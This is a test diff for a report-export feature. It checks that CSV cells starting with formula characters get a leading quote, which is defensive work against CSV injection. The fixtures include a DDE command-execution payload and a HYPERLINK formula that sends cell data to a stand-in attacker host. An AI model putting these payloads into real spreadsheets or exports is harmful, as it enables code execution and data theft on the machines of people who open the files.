@@ -180,6 +180,30 @@ describe("generate-report", () => {
     expect(mail.map((m) => m.subject)).toEqual([`Your activity report for ${ctx.org.name} is ready`]);
   });
 
+  // CSV injection: a spreadsheet runs a cell that starts with = + - @ tab or CR. Inserted straight into the table (the
+  // schemas refuse tab and CR in titles today, but rows written before, by an import or a fork must be safe too).
+  it("neutralises formula-like cells in every column: each gets a leading single quote", async () => {
+    const ctx = await setup();
+    const project = await createProjectFor(ctx.org.id, ctx.owner.id, "=cmd|' /C calc'!A0");
+    const dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
+    await getDb()
+      .insert(tasks)
+      .values([...dangerous, "Plain title", "a=b"].map((title) => ({ orgId: ctx.org.id, projectId: project.id, title, createdById: ctx.owner.id })));
+    const reportId = await requestReport(ctx.actors.admin, ctx.org.id, "tasks");
+
+    const { error } = await runReport(reportId, ctx.org.id);
+
+    expect(error).toBeUndefined();
+    const file = await getReportFile({ actor: ctx.actors.admin, orgId: ctx.org.id, reportId });
+    const [, ...lines] = parse(file.data.toString("utf8")) as string[][];
+    const titles = lines.map((l) => l[2]);
+    expect(titles).toEqual(expect.arrayContaining([...dangerous.map((t) => `'${t}`), "Plain title", "a=b"]));
+    expect(titles).toHaveLength(8);
+    expect(new Set(lines.map((l) => l[1]))).toEqual(new Set(["'=cmd|' /C calc'!A0"]));
+    // No cell, in any column, starts with a formula character once the CSV text is read back.
+    expect(lines.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
   it("an empty report completes with just the header", async () => {
     const ctx = await setup();
     const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");
